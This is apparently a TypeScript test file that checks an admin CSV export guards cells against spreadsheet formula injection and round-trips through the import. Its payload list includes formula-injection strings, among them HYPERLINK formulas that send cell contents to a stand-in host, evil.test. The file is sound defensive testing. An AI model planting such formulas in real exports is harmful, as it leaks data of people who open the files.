// Every CSV the admin downloads, opened as a spreadsheet would open it: a line break in a cell
// must not start a new row, and no cell may start (after spaces) with a formula character unless
// the apostrophe guard is in front. The import reads each cell back unchanged.
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { subscribersCsv } from "~/features/newsletter/admin.server";
import { toCsv } from "./export.server";
import { EXPORT_KINDS, KIND_COLUMNS } from "./kinds";
import { parseImportFile } from "./parse.server";

const FORMULA_CHARS = ["=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];
const SPACES = " \t\u00a0\u1680\u2000\u2005\u200a\u200b\u202f\u205f\u3000\ufeff";
const STARTS_LIKE_FORMULA = new RegExp(
  `^[${SPACES}]*[${FORMULA_CHARS.join("").replace("-", "\\-")}]`,
);

const PAYLOADS = [
  ...FORMULA_CHARS.flatMap((c) => [
    `first line\n${c}HYPERLINK("https://evil.test/?leak="&A1,"Click")`,
    `first line\r${c}HYPERLINK("https://evil.test","x")`,
    `first line\r\n${c}1+1`,
    `  ${c}1+1`,
    `\u00a0${c}1+1`,
    `\u2003${c}1+1`,
    `\u200b${c}1+1`,
    `\u3000${c}1+1`,
    `\ufeff${c}1+1`,
    `\t${c}1+1`,
    `'${c}1+1`,
    `${c}1+1`,
  ]),
  "\tplain",
  "\rplain",
  'plain, with a comma and "quotes"',
  "last line\n",
];

/**
 * The text as a spreadsheet splits it: a record ends at CRLF, a lone LF or a lone CR outside
 * quotes (Excel and LibreOffice break rows on each).
 */
function spreadsheetRecords(csv: string): string[][] {
  return parse(csv, {
    bom: true,
    record_delimiter: ["\r\n", "\n", "\r"],
    relax_column_count: true,
  });
}

function expectSafe(csv: string, rows: number) {
  const records = spreadsheetRecords(csv);
  expect(records).toHaveLength(rows + 1); // the header, then one record a row
  for (const cell of records.flat()) {
    if (STARTS_LIKE_FORMULA.test(cell) || /^[\t\r]/.test(cell)) expect(cell).toMatch(/^'/);
  }
  // A raw line may start with a formula character only inside a quoted cell (an odd number of
  // quotes before it): read without csv-parse, by counting quotes.
  let quoted = false;
  for (const line of csv.split(/\r\n|\n|\r/)) {
    if (!quoted) expect(line).not.toMatch(STARTS_LIKE_FORMULA);
    if ((line.match(/"/g) ?? []).length % 2 === 1) quoted = !quoted;
  }
}

describe("CSV exports are safe in a spreadsheet and round-trip through the import", () => {
  for (const kind of EXPORT_KINDS) {
    it(kind, () => {
      const columns = KIND_COLUMNS[kind];
      // Every column of the kind holds the payload (a paper's questions are a list of refs).
      const rows = PAYLOADS.map((payload) =>
        Object.fromEntries(
          columns.map((c) => [c, kind === "practice_papers" && c === "questions" ? [] : payload]),
        ),
      );
      const csv = toCsv(kind, rows);
      expectSafe(csv, rows.length);

      const parsed = parseImportFile(`${kind}.csv`, csv, kind);
      expect(parsed.ok).toBe(true);
      if (!parsed.ok) return;
      const section = parsed.sections[0]!;
      expect(section.rows).toHaveLength(rows.length);
      section.rows.forEach((row, i) => {
        expect(row.problem).toBeUndefined();
        for (const c of columns) {
          if (kind === "practice_papers" && c === "questions") continue;
          expect(row.cells[c]).toBe(PAYLOADS[i]);
        }
      });
    });
  }

  it("a negative number goes out guarded as text and is read back as written", () => {
    const csv = toCsv("subjects", [{ level: "foundation", slug: "maths", position: -3 }]);
    expect(csv).toContain(",'-3,");
    const parsed = parseImportFile("subjects.csv", csv, "subjects");
    expect(parsed.ok && parsed.sections[0]!.rows[0]!.cells.position).toBe("-3");
  });

  it("the subscriber list", () => {
    const at = new Date("2026-01-02T03:04:05.000Z");
    const rows = PAYLOADS.map((email, i) => ({
      id: `id-${i}`,
      email,
      status: "confirmed" as const,
      createdAt: at,
      confirmedAt: null,
      unsubscribedAt: null,
      lastMailedAt: null,
      bouncedAt: null,
    }));
    const csv = subscribersCsv(rows);
    expectSafe(csv, rows.length);
    const parsed = parseImportFile("subscribers.csv", csv, "subscribers");
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    expect(parsed.sections[0]!.rows.map((r) => r.cells.email)).toEqual(PAYLOADS);
  });
});
